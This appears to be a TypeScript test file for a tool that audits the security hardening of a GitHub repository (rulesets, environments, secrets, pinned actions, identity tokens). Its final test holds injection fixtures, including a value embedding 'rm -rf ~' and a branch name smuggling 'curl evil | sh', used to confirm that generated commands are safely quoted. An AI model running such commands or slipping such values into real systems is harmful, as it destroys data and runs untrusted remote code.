import { execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { hours, instant } from '../../../src/core/brand.ts';
import type { BranchRule, GitHubFacts } from '../../../src/core/doctor/facts.ts';
import { judgeGitHub } from '../../../src/core/doctor/judge.ts';
import { seen } from '../../../src/core/doctor/point.ts';
import { LEDGER_POINTS } from '../../../src/core/doctor/points-ledger.ts';
import { REPOSITORY_POINTS } from '../../../src/core/doctor/points-repository.ts';
import { sendJson } from '../../../src/core/doctor/shell.ts';
import { word } from '../../../src/core/shell.ts';
import { about, hardenedFacts, judged, pointIn } from './facts.ts';

const weak = (change: Partial<GitHubFacts>): readonly string[] =>
  judged(change).flatMap(({ id, state }) => (state === 'weak' ? [id] : []));

it('with the two Apps every point is hardened, each once', () => {
  const points = judged({});
  expect(points.filter(({ state }) => state !== 'hardened')).toEqual([]);
  expect(points.map(({ id }) => id).toSorted()).toEqual(
    [...Object.keys(REPOSITORY_POINTS), ...Object.keys(LEDGER_POINTS), 'subject.immutable'].toSorted(),
  );
});

it('nothing that was not seen is hardened, whatever the reason', () => {
  for (const kind of ['hidden', 'failed'] as const) {
    const nothing = Object.fromEntries(Object.keys(hardenedFacts).map((key) => [key, { kind, why: 'no' }]));
    expect(judged(nothing as unknown as GitHubFacts).filter(({ state }) => state !== 'unknown')).toEqual([]);
  }
});

it('names one weakness each in what the tests of the whole set-up do not reach', () => {
  const quota = { limit: 1000, resetAt: instant(0) };
  expect(weak({ quota: seen({ ...quota, remaining: 99 }) })).toEqual(['quota.left']);
  expect(weak({ quota: seen({ ...quota, remaining: 100 }) })).toEqual([]);
  expect(weak({ anchors: seen({ kind: 'broken', why: 'Another head.' }) })).toEqual(['ledger.anchor']);
  expect(pointIn(judged({ anchors: seen({ kind: 'none' }) }), 'ledger.anchor').state).toBe('unused');
  expect(weak({ actions: seen({ enabled: false, allowed: 'local_only', pinned: false }) })).toEqual([
    'workflows.enabled',
  ]);
  expect(weak({ workflows: seen([]) })).toEqual(['workflows.enabled']);
  expect(weak({ heartbeat: seen({ last: undefined, limit: hours(2) }) })).toEqual(['workflows.heartbeat']);
});

describe('the word of Entra', () => {
  const days = {
    firstDay: '2026-11-20',
    lastDay: '2026-12-03',
    from: instant(1_000),
    to: instant(2_000),
  };
  const at = (now: number) =>
    pointIn(judged({ accounts: seen({ unconfirmed: days, now: instant(now) }) }), 'accounts.confirmed');

  it('is done without until the days are over, and before they have come it is said too', () => {
    expect([0, 1_500, 1_999, 2_000].map((now) => at(now).state)).toEqual([
      'weak',
      'weak',
      'weak',
      'hardened',
    ]);
    expect(at(2_000).found).toContain('over since the end of 2026-12-03');
  });

  it('is had again by two commands: the right for each identity, then the line of the policy', async () => {
    const [right, line] = at(1_500).fix;
    expect(right).toContain("appRoles[?value=='User.Read.All'].id");
    expect(right).toMatch(/^for e in ELEVATE REVOKE AUDIT; do .*"GATEHOUSE_\$e"_CLIENT_ID/);
    const folder = await mkdtemp(join(tmpdir(), 'gatehouse-line-'));
    try {
      await mkdir(join(folder, 'policies'));
      const path = join(folder, 'policies/gatehouse.yaml');
      await writeFile(
        path,
        'version: 1\naccounts: { unconfirmed: { from: 2026-11-20, to: 2026-12-03 } }\nmerge: automatic\n',
      );
      execFileSync('bash', ['-e', '-c', line ?? ''], { cwd: folder });
      expect(await readFile(path, 'utf8')).toBe('version: 1\nmerge: automatic\n');
      expect(await readdir(join(folder, 'policies'))).toEqual(['gatehouse.yaml']);
    } finally {
      await rm(folder, { recursive: true });
    }
  });
});

describe('the rules of a branch', () => {
  const mine = { ruleset: 9, home: 'orgs/contoso' };

  it('add up: one ruleset that pins the App holds beside one that does not', () => {
    const loose: BranchRule = {
      ...mine,
      type: 'required_status_checks',
      strict: false,
      checks: [{ context: 'gatehouse', app: undefined }],
    };
    const before = hardenedFacts.mainRules;
    if (before.kind !== 'seen') throw new Error('seen');
    expect(weak({ mainRules: seen([loose, ...before.value]) })).toEqual([]);
  });

  it('of the organization are changed where they are', () => {
    const rules: readonly BranchRule[] = [
      { ...mine, type: 'pull_request', approvals: 1, codeOwners: true },
      ...(hardenedFacts.mainRules.kind === 'seen' ? hardenedFacts.mainRules.value.slice(1) : []),
    ];
    const { found, fix } = pointIn(judged({ mainRules: seen(rules) }), 'main.pull-request');
    expect(found).toContain('with 1 approvals');
    expect(fix.join()).toContain('gh api -X PUT orgs/contoso/rulesets/9 --input -');
  });

  it('are passed by nobody where another ruleset holds the same without a list', () => {
    const rules = hardenedFacts.mainRules.kind === 'seen' ? hardenedFacts.mainRules.value : [];
    const both = rules.map((rule) => ({ ...rule, ruleset: 9 }));
    const team = { ruleset: 1, name: 'main', actors: [{ kind: 'Team', id: 3, mode: 'always' }] } as const;
    const none = { ruleset: 2, name: 'history', actors: [] };
    expect(weak({ mainBypass: seen([team, none]) })).toEqual(['main.bypass']);
    expect(
      weak({
        mainRules: seen([...rules, ...both]),
        mainBypass: seen([team, none, { ruleset: 9, name: 'second', actors: [] }]),
      }),
    ).toEqual([]);
  });

  it('that let nobody write the ledger are as weak as those that let a person', () => {
    const history = { ruleset: 4, name: 'history', actors: [] };
    expect(weak({ ledgerBypass: seen([{ ruleset: 3, name: 'adds', actors: [] }, history]) })).toEqual([
      'ledger.writers',
    ]);
  });

  it('that the App of the ledger passes are weak where they keep its history', () => {
    const rules = hardenedFacts.ledgerRules.kind === 'seen' ? hardenedFacts.ledgerRules.value : [];
    expect(weak({ ledgerRules: seen(rules.map((rule) => ({ ...rule, ruleset: 3 }))) })).toEqual([
      'ledger.bypass',
    ]);
  });
});

describe('the source of the status', () => {
  it('is the workflows’ own at most with GITHUB_TOKEN alone, which is unused and not weak', () => {
    const rules = hardenedFacts.mainRules.kind === 'seen' ? hardenedFacts.mainRules.value : [];
    const pinned = rules.map((rule) =>
      rule.type === 'required_status_checks'
        ? { ...rule, checks: [{ context: 'gatehouse', app: 15368 }] }
        : rule,
    );
    expect(pointIn(judged({ mainRules: seen(pinned) }), 'main.status-source')).toMatchObject({
      state: 'unused',
      found: expect.stringContaining('GITHUB_TOKEN alone'),
    });
  });
});

describe('environments', () => {
  const all = hardenedFacts.environments.kind === 'seen' ? hardenedFacts.environments.value : [];
  const change = (name: string, to: object) =>
    seen(all.map((each) => (each.name === name ? { ...each, ...to } : each)));

  it('may have reviewers where access is opened, and nowhere else', () => {
    expect(weak({ environments: change('gatehouse-elevate', { reviewers: 2, waitMinutes: 5 }) })).toEqual([]);
    for (const name of ['gatehouse-review', 'gatehouse-revoke', 'gatehouse-audit'])
      expect(weak({ environments: change(name, { otherRules: 1 }) })).toEqual(['environment.waits']);
  });

  it('keep the reviewers that they have when they are limited', () => {
    const environments = change('gatehouse-elevate', { reviewers: 1, branches: 'protected' });
    const { fix } = pointIn(judged({ environments }), 'environment.branch');
    expect(fix[0]).toContain('reviewers: [.protection_rules[].reviewers');
  });

  it('of other people are none of ours', () => {
    expect(
      weak({ environments: seen([...all, { ...all[0]!, name: 'production', branches: 'any' }]) }),
    ).toEqual([]);
  });
});

describe('secrets', () => {
  const placed = (repository: readonly string[], environments: Record<string, readonly string[]> = {}) =>
    weak({ secrets: seen({ repository, environments: new Map(Object.entries(environments)) }) });

  it('lie where they are used', () => {
    expect(
      placed([], {
        'gatehouse-review': ['GATEHOUSE_PROPOSAL_TOKEN', 'GATEHOUSE_NOTIFY_CHANNELS'],
        'gatehouse-elevate': ['GATEHOUSE_GITHUB_ACCESS_TOKEN'],
        'gatehouse-revoke': ['GATEHOUSE_GITHUB_ACCESS_TOKEN'],
      }),
    ).toEqual([]);
    expect(placed([], { 'gatehouse-review': ['GATEHOUSE_GITHUB_ACCESS_TOKEN'] })).toEqual(['secrets.placed']);
    expect(placed([], { production: ['GATEHOUSE_PROPOSAL_TOKEN'] })).toEqual(['secrets.placed']);
    expect(placed(['GATEHOUSE_NOTIFY_CHANNELS'])).toEqual(['secrets.placed']);
  });

  it('are never for Azure', () => {
    for (const name of ['AZURE_CREDENTIALS', 'ARM_CLIENT_SECRET', 'AZURE_DEV_PASSWORD'])
      expect(placed([name])).toEqual(['secrets.placed']);
    expect(placed(['AZURE_SUBSCRIPTION_ID'])).toEqual([]);
  });
});

describe('actions that a workflow names', () => {
  const uses = (text: string) =>
    weak({ files: seen({ paths: [], workflows: new Map([['.github/workflows/x.yml', text]]) }) });
  const hash = 'f'.repeat(40);

  it.each([
    `jobs: { a: { steps: [{ uses: a/b@${hash} }, { uses: ./ }] } }`,
    `jobs: { a: { uses: a/b/.github/workflows/c.yml@${hash} } }`,
    `jobs: { a: { steps: [{ uses: 'docker://a@sha256:${'a'.repeat(64)}' }] } }`,
    `jobs: { a: { steps: [{ run: 'echo uses: a/b@v1' }] } }`,
  ])('are by full SHA: %s', (text) => expect(uses(text)).toEqual([]));

  it.each([
    'jobs: { a: { steps: [{ uses: a/b@v1 }] } }',
    'jobs: { a: { steps: [{ uses: a/b@ffffff }] } }',
    'jobs: { a: { uses: a/b/.github/workflows/c.yml@main } }',
    'jobs: { a: { steps: [{ uses: "docker://a:1" }] } }',
    'jobs: { a: { steps: [{ "uses": a/b } ] } }',
  ])('are not: %s', (text) => expect(uses(text)).toEqual(['workflows.pinned']));

  it('are not believed to be where the file cannot be read', () =>
    expect(uses('jobs: [')).toEqual(['workflows.pinned', 'workflows.identities']));
});

describe('jobs that ask for an identity', () => {
  const asks = (text: string) =>
    weak({ files: seen({ paths: [], workflows: new Map([['.github/workflows/x.yml', text]]) }) });
  const job = (more: string): string => `{ a: { ${more} } }`;

  it.each([
    `on: push\njobs: ${job('environment: gatehouse-elevate, permissions: { id-token: write }')}`,
    `on: { schedule: [{ cron: '1 1 * * *' }] }\njobs: ${job('environment: { name: gatehouse-revoke }, permissions: { id-token: write }')}`,
    `on: pull_request_target\njobs: ${job('environment: gatehouse-review, permissions: { contents: read }')}`,
    `on: push\npermissions: { id-token: write }\njobs: ${job('permissions: { contents: read }')}`,
  ])('are where they belong: %s', (text) => expect(asks(text)).toEqual([]));

  it.each([
    `on: push\njobs: ${job('permissions: { id-token: write }')}`,
    `on: push\npermissions: write-all\njobs: ${job('runs-on: x')}`,
    `on: push\njobs: ${job("environment: '${{ inputs.where }}', permissions: { id-token: write }")}`,
    `on: [push, issue_comment]\njobs: ${job('environment: gatehouse-elevate, permissions: { id-token: write }')}`,
    `on: { pull_request: {} }\njobs: ${job('environment: Gatehouse-Elevate')}`,
  ])('are not: %s', (text) => expect(asks(text)).toEqual(['workflows.identities']));
});

describe('a subject of one’s own form', () => {
  const subject = (claims: readonly string[] | undefined, immutable = true) =>
    weak({ subject: seen({ immutable, prefix: undefined, claims }) });
  it('holds the environment, and ids', () => {
    expect(subject(['repo', 'context', 'job_workflow_ref'])).toEqual([]);
    expect(subject(['repo', 'job_workflow_ref'])).toEqual(['subject.immutable']);
    expect(subject([])).toEqual(['subject.immutable']);
    expect(subject(undefined, false)).toEqual(['subject.immutable']);
  });
});

describe('a repository of a person', () => {
  it('cannot forbid forks, and is not blamed for it; that of an organization is', () => {
    const settings = { visibility: 'private', allowsForks: true } as const;
    expect(weak({ settings: seen({ ...settings, ownerKind: 'user' }) })).toEqual([]);
    expect(weak({ settings: seen({ ...settings, ownerKind: 'organization' }) })).toEqual([
      'repository.forks',
    ]);
  });
});

describe('commands', () => {
  it('hold no name that a shell would obey', () => {
    expect(word('main')).toBe('main');
    expect(word("a'b$(rm -rf ~)")).toBe(String.raw`'a'\''b$(rm -rf ~)'`);
    const branch = "x'; curl evil | sh; '";
    const points = judgeGitHub(
      { ...hardenedFacts, environments: seen([]) },
      { ...about, defaultBranch: branch },
    );
    expect(pointIn(points, 'environment.branch').fix.join()).toContain(
      String.raw`-f name='x'\''; curl evil | sh; '\'''`,
    );
    expect(sendJson('POST', 'repos/a/b/rulesets', { name: branch })).toBe(
      String.raw`echo '{"name":"x'\''; curl evil | sh; '\''"}' | gh api -X POST repos/a/b/rulesets --input -`,
    );
  });
});
